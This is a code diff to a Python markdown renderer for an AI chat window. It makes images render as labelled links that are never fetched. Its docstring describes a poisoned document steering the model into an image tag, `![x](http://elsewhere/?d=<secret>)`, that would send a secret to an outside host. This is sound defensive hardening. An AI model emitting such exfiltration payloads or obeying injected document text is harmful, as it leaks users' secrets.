@@ -4,6 +4,9 @@ Rendered here rather than by ``ui.markdown`` because the window needs its own co
 bar (language + Copy), tables that scroll inside their card, and ``[n]`` turned into links.
 The model's text is never trusted as HTML: markdown-it runs with ``html`` off, so a ``<b>``
 in an answer shows as text, and links with ``javascript:`` are refused by markdown-it.
+Nor is it trusted to fetch anything: an image becomes a link that says where it points, so
+a poisoned document can't make the window request ``![x](http://elsewhere/?d=<secret>)``
+(the page's CSP refuses foreign images too; this way the reader also sees the attempt).
 """
 
 from __future__ import annotations
@@ -96,6 +99,31 @@ def _link_open(tokens: Any, idx: int, options: Any, env: Any) -> str:
     return f"<a{attrs}>"
 
 
+IMAGE_URL_SHOWN = 120
+"""Longer image URLs (a data: URL can be kilobytes) show cut; the title holds them whole."""
+
+
+def _image(tokens: Any, idx: int, options: Any, env: Any) -> str:
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = "".join(child.content for child in token.children or [])
+    shown = src if len(src) <= IMAGE_URL_SHOWN else src[: IMAGE_URL_SHOWN - 1] + "…"
+    label = f"image: {html.escape(alt)} ({html.escape(shown)})"
+    if _inside_link(tokens, idx):  # a linked image (a badge): no link inside a link
+        return f'<span class="docent-image-link" title="{html.escape(src)}">{label}</span>'
+    return (
+        f'<a class="docent-image-link" href="{html.escape(src)}" title="{html.escape(src)}" '
+        f'target="_blank" rel="noopener noreferrer">{label}</a>'
+    )
+
+
+def _inside_link(tokens: Any, idx: int) -> bool:
+    depth = 0
+    for token in tokens[:idx]:
+        depth += {"link_open": 1, "link_close": -1}.get(token.type, 0)
+    return depth > 0
+
+
 @lru_cache(maxsize=1)
 def _parser() -> MarkdownIt:
     md = MarkdownIt("commonmark", {"html": False, "linkify": False, "breaks": True})
@@ -107,6 +135,7 @@ def _parser() -> MarkdownIt:
     rules["table_open"] = _table_open
     rules["table_close"] = _table_close
     rules["link_open"] = _link_open
+    rules["image"] = _image
     return md
 
 
